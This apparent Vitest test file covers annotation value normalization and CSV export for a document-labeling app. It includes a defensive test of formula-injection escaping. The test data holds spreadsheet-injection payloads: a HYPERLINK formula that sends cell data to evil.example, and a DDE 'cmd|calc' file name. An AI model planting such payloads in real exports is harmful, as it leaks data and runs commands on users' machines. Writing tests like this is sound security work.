// Annotations carry `normalized` (spec 2.14, API form), and the project's CSV export (spec 4) writes
// one RFC 4180 row per annotation with the CSV form; LibreOffice opens the file and reads every field.
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../helpers/testServer.ts';
import { created, pdfWithLettersAtSpans, span, upload } from '../helpers/documentFixtures.ts';
import { findSoffice } from '../../main/pipeline/office.ts';
import { CSV_COLUMNS } from '../../main/services/exportService.ts';
import { collapseWhiteSpace } from '../../main/domain/documentTable.ts';
import { parseCsv } from '../helpers/csv.ts';

let s: TestServer;
let project: number;
let doc: number;
const labels: Record<string, number> = {};
let category: number;

beforeAll(async () => {
  s = await startTestServer();
  project = (await created(s.admin.post('/api/v3/projects/', { name: 'Export, "quoted"' }))).id;
  category = (await created(s.admin.post('/api/v3/categories/', { project, name: 'Lohnabrechnung' }))).id;
  for (const [name, data_type] of [['Betrag', 'Number'], ['Datum', 'Date'], ['Satz', 'Percentage'], ['Kirchensteuer', 'True/False'], ['Name', 'Text']]) {
    labels[name] = (await created(s.admin.post('/api/v3/labels/', { project, name, data_type, categories: [category] }))).id;
  }
  // Each span(n) encloses a letter of the processed document; the texts sent are the user's corrections.
  doc = (await created(upload(s.admin, { project, category, sync: 'true' }, { name: 'März, "Gehalt".pdf', data: await pdfWithLettersAtSpans() }))).id;
});
afterAll(() => s.close());

const annotate = async (label: string, text: string, n: number) =>
  created(s.admin.post(`/api/v3/documents/${doc}/annotations/`, { label: labels[label], label_set: category, span: [span(n, text)] }));

describe('normalized values', () => {
  it('normalizes each annotation by its label data type, and null when it cannot', async () => {
    expect((await annotate('Betrag', '1.234,56-', 1)).normalized).toBe(-1234.56);
    expect((await annotate('Datum', '22.05.2018', 2)).normalized).toBe('2018-05-22');
    expect((await annotate('Satz', '19 %', 3)).normalized).toBe(0.19);
    expect((await annotate('Kirchensteuer', 'ja', 4)).normalized).toBe(true);
    expect((await annotate('Name', 'Müller, "Max"\nJr.', 5)).normalized).toBe('Müller, "Max"\nJr.');
    const unreadable = await annotate('Betrag', 'zwölf Euro fünfzig und mehr', 6);
    expect(unreadable.normalized).toBeNull();
  });

  it('normalizes again when the text is corrected or the label changes', async () => {
    const a = await annotate('Betrag', '12,50', 7);
    const corrected = await s.admin.patch(`/api/v3/annotations/${a.id}/`, { span: [span(7, '13,50')] });
    expect(corrected.body.normalized).toBe(13.5);
    const relabelled = await s.admin.patch(`/api/v3/annotations/${a.id}/`, { label: labels.Name });
    expect(relabelled.body.normalized).toBe('13,50');
  });
});

describe('CSV export', () => {
  let csv: string;
  beforeAll(async () => {
    const r = await fetch(`${s.url}/api/v3/projects/${project}/export/all.csv?token=${s.admin.token}`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    csv = await r.text();
  });

  it('writes one RFC 4180 row per annotation with the CSV forms of spec 2.14', () => {
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const body = rows.slice(1);
    expect(body).toHaveLength(7);
    const byText = new Map(body.map((r) => [r[7], Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]]))]));
    expect(byText.get('1.234,56-')).toMatchObject({ normalized: '-1234.56', label: 'Betrag', category: 'Lohnabrechnung', data_file_name: 'März, "Gehalt".pdf', review_state: 'Created by human', page: '1' });
    expect(byText.get('22.05.2018')!.normalized).toBe('2018-05-22');
    expect(byText.get('19 %')!.normalized).toBe('0.19');
    expect(byText.get('ja')!.normalized).toBe('True');
    expect(byText.get('zwölf Euro fünfzig und mehr')!.normalized).toBe('None');
    expect(byText.get('Müller, "Max"\nJr.')!.normalized).toBe('Müller, "Max"\nJr.');
    expect(Number(byText.get('22.05.2018')!.x0)).toBeGreaterThan(0);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('needs credentials and membership', async () => {
    expect((await s.anonymous().get(`/api/v3/projects/${project}/export/all.csv`)).status).toBe(401);
    const eve = await s.userClient('eve-export@test.local');
    expect((await eve.get(`/api/v3/projects/${project}/export/all.csv`)).status).toBe(404);
  });

  it.skipIf(!findSoffice() && !process.env.CI)('opens in LibreOffice with every field intact', { timeout: 120_000 }, async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'folio-csv-'));
    try {
      fs.writeFileSync(path.join(dir, 'export.csv'), csv);
      // Comma-separated, double quotes, UTF-8 (76), from the first line: what LibreOffice's import dialog offers.
      await promisify(execFile)(findSoffice()!, [
        `-env:UserInstallation=${pathToFileURL(path.join(dir, 'profile')).href}`, '--headless', '--infilter=CSV:44,34,76,1',
        '--convert-to', 'html', '--outdir', path.join(dir, 'out'), path.join(dir, 'export.csv'),
      ], { timeout: 100_000 });
      const html = fs.readFileSync(path.join(dir, 'out', 'export.html'), 'utf8');
      const tds = [...html.matchAll(/<td([^>]*)>([\s\S]*?)<\/td>/g)];
      const cells = tds.map((m) =>
        // LibreOffice writes an empty cell as a lone <br>, a line break inside a cell as <br> too.
        m[2].replace(/[\r\n]/g, '').replace(/^<br>$/, '').replace(/<br>/g, '\n').replace(/<[^>]+>/g, '').replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/&lt;/g, '<').replace(/&gt;/g, '>'),
      );
      const expected = parseCsv(csv).flat();
      expect(cells.length).toBe(expected.length);
      // Text cells come back exactly; what LibreOffice reads as a number, date or percentage (sdval)
      // it shows in its own format, as spec 2.14 warns.
      let compared = 0;
      for (const [i, v] of expected.entries()) {
        if (tds[i][1].includes('sdval=')) continue;
        expect(cells[i]).toBe(v);
        compared++;
      }
      expect(compared).toBeGreaterThan(CSV_COLUMNS.length * 4);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('CSV exports escape formula injection (OWASP: a leading single quote)', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\tTAB first', '\rCR first'];
  let hostile: number;
  let name: number;
  let amount: number;
  beforeAll(async () => {
    hostile = (await created(s.admin.post('/api/v3/projects/', { name: 'Hostile' }))).id;
    const cat = (await created(s.admin.post('/api/v3/categories/', { project: hostile, name: '=Kategorie' }))).id;
    name = (await created(s.admin.post('/api/v3/labels/', { project: hostile, name: 'Name', data_type: 'Text', categories: [cat] }))).id;
    amount = (await created(s.admin.post('/api/v3/labels/', { project: hostile, name: 'Betrag', data_type: 'Number', categories: [cat] }))).id;
    const d = (await created(upload(s.admin, { project: hostile, category: cat, sync: 'true' }, { name: "=cmd|'calc'!A0.pdf", data: await pdfWithLettersAtSpans() }))).id;
    for (const [i, text] of HOSTILE.entries()) {
      await created(s.admin.post(`/api/v3/documents/${d}/annotations/`, { label: name, label_set: cat, span: [span(i + 1, text)] }));
    }
    await created(s.admin.post(`/api/v3/documents/${d}/annotations/`, { label: amount, label_set: cat, span: [span(10, '-12,50')] }));
  });

  it('all.csv: every cell that starts with = + - @ TAB or CR gets a leading quote; a negative number stays a number', async () => {
    const r = await fetch(`${s.url}/api/v3/projects/${hostile}/export/all.csv?token=${s.admin.token}`);
    expect(r.status).toBe(200);
    const rows = parseCsv(await r.text());
    const body = rows.slice(1).map((row) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, row[i]])));
    expect(body.filter((b) => b.label === 'Name').map((b) => b.text).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
    for (const b of body) {
      expect(b.data_file_name).toBe("'=cmd|'calc'!A0.pdf");
      expect(b.category).toBe("'=Kategorie");
    }
    const money = body.find((b) => b.label === 'Betrag')!;
    expect([money.text, money.normalized]).toEqual(["'-12,50", '-12.5']);
    // No cell of the file, quoted or not, starts with a formula character any more.
    for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });

  it('documents.csv: the same, the file name and the values of a label alike', async () => {
    const r = await fetch(`${s.url}/api/v3/projects/${hostile}/export/documents.csv?token=${s.admin.token}`);
    expect(r.status).toBe(200);
    const [header, row] = parseCsv(await r.text());
    const doc = Object.fromEntries(header.map((h, i) => [h, row[i]]));
    expect(doc.data_file_name).toBe("'=cmd|'calc'!A0.pdf");
    expect(doc.category).toBe("'=Kategorie");
    expect(doc.Betrag).toBe('-12.5');
    // Several values of one label are one cell, a line each, in text order: the cell starts with the first.
    // Text values are as the app shows them, white space collapsed (the leading tab and CR go).
    expect(doc.Name).toBe(`'${HOSTILE.map(collapseWhiteSpace).join('\n')}`);
  });
});
